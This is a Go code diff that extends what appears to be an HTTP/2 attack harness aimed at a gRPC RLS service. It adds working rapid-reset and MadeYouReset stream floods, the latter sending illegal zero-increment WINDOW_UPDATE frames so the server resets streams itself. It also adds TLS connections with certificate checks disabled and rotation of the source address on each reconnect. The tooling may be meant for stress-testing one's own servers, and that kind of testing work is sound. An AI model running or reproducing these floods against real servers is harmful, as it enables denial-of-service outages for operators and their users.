@@ -3,6 +3,8 @@ package main
 import (
 	"bufio"
 	"bytes"
+	"crypto/tls"
+	"errors"
 	"net"
 	"sort"
 	"sync"
@@ -33,12 +35,44 @@ type h2Conn struct {
 	closedOnce sync.Once
 }
 
+// h2Target is what the HTTP/2 attacks connect to and ask for.
+type h2Target struct {
+	addr string
+	// tls connects with TLS (h2 by ALPN, the certificate not checked), for
+	// the HTTPS listener.
+	tls bool
+	// path and contentType are the request's (an RLS call, if empty).
+	path, contentType string
+}
+
 // dialH2 connects from addr and sends the client preface and SETTINGS.
-func dialH2(target string, from string) (*h2Conn, error) {
+func dialH2(target h2Target, from string) (*h2Conn, error) {
 	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 5 * time.Second}
-	c, err := d.Dial("tcp", target)
+	c, err := d.Dial("tcp", target.addr)
 	if err != nil {
 		return nil, err
+	}
+	scheme := "http"
+	if target.tls {
+		tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{http2.NextProtoTLS}})
+		tc.SetDeadline(time.Now().Add(5 * time.Second))
+		if err := tc.Handshake(); err != nil {
+			c.Close()
+			return nil, err
+		}
+		tc.SetDeadline(time.Time{})
+		if tc.ConnectionState().NegotiatedProtocol != http2.NextProtoTLS {
+			c.Close()
+			return nil, errors.New("the server did not choose HTTP/2")
+		}
+		c, scheme = tc, "https"
+	}
+	path, fields := target.path, [][2]string{{"content-type", "application/grpc"}, {"te", "trailers"}}
+	if path == "" {
+		path = rlsMethod
+	}
+	if target.contentType != "" {
+		fields = [][2]string{{"content-type", target.contentType}}
 	}
 	h := &h2Conn{c: c, bw: bufio.NewWriterSize(c, 64<<10), closed: make(chan struct{})}
 	h.fr = http2.NewFramer(h.bw, c)
@@ -48,8 +82,8 @@ func dialH2(target string, from string) (*h2Conn, error) {
 	enc.SetMaxDynamicTableSizeLimit(0)
 	for i := 0; i < 2; i++ { // the first block carries the table size update
 		buf.Reset()
-		for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", rlsMethod},
-			{":authority", target}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
+		for _, f := range append([][2]string{{":method", "POST"}, {":scheme", scheme}, {":path", path},
+			{":authority", target.addr}}, fields...) {
 			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
 		}
 		if i == 0 {
@@ -104,9 +138,23 @@ func (h *h2Conn) open(id uint32) error {
 	return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block, EndHeaders: true})
 }
 
-// rapidResetResult describes a rapid-reset run.
+// end ends stream id the way the attack does: RST_STREAM (rapid reset),
+// or a WINDOW_UPDATE of increment 0, a protocol error for which the server
+// resets the stream itself (MadeYouReset).
+func (h *h2Conn) end(id uint32, madeYouReset bool) error {
+	if !madeYouReset {
+		return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
+	}
+	h.fr.AllowIllegalWrites = true
+	err := h.fr.WriteWindowUpdate(id, 0)
+	h.fr.AllowIllegalWrites = false
+	return err
+}
+
+// rapidResetResult describes a rapid-reset or MadeYouReset run.
 type rapidResetResult struct {
 	Target      string  `json:"target"`
+	Attack      string  `json:"attack"`
 	Seconds     float64 `json:"seconds"`
 	Connections int     `json:"connections_opened"`
 	DialErrors  int     `json:"dial_errors"`
@@ -127,11 +175,15 @@ type rapidResetResult struct {
 }
 
 // rapidReset runs conns loops for d, each on its own connection: open a
-// stream with HEADERS and cancel it with RST_STREAM at once, as fast as the
-// connection takes them. When the server closes the connection, the loop
-// reconnects.
-func rapidReset(target string, from []string, conns int, d time.Duration) rapidResetResult {
-	res := rapidResetResult{Target: target}
+// stream with HEADERS and cancel it with RST_STREAM at once (or, with
+// madeYouReset, make the server reset it), as fast as the connection takes
+// them. When the server closes the connection, the loop reconnects, from
+// the next address of from.
+func rapidReset(target h2Target, from []string, conns int, d time.Duration, madeYouReset bool) rapidResetResult {
+	res := rapidResetResult{Target: target.addr, Attack: "rapid-reset"}
+	if madeYouReset {
+		res.Attack = "made-you-reset"
+	}
 	var mu sync.Mutex
 	var perConn []int64
 	var wg sync.WaitGroup
@@ -155,7 +207,7 @@ func rapidReset(target string, from []string, conns int, d time.Duration) rapidR
 				var sent int64 = 1 // flushed by dialH2
 				id := uint32(3)
 				for pending := int64(0); time.Now().Before(end); id += 2 {
-					if h.open(id) != nil || h.fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+					if h.open(id) != nil || h.end(id, madeYouReset) != nil {
 						break
 					}
 					if pending++; pending == 64 {
@@ -227,10 +279,11 @@ type heldStreamsResult struct {
 // and holds them for d.
 func heldStreams(target string, from []string, conns, perConn int, d time.Duration) heldStreamsResult {
 	res := heldStreamsResult{Target: target}
+	to := h2Target{addr: target}
 	var hs []*h2Conn
 	opened := map[*h2Conn]int64{}
 	for i := 0; i < conns; i++ {
-		h, err := dialH2(target, from[i%len(from)])
+		h, err := dialH2(to, from[i%len(from)])
 		if err != nil {
 			res.DialErrors++
 			continue
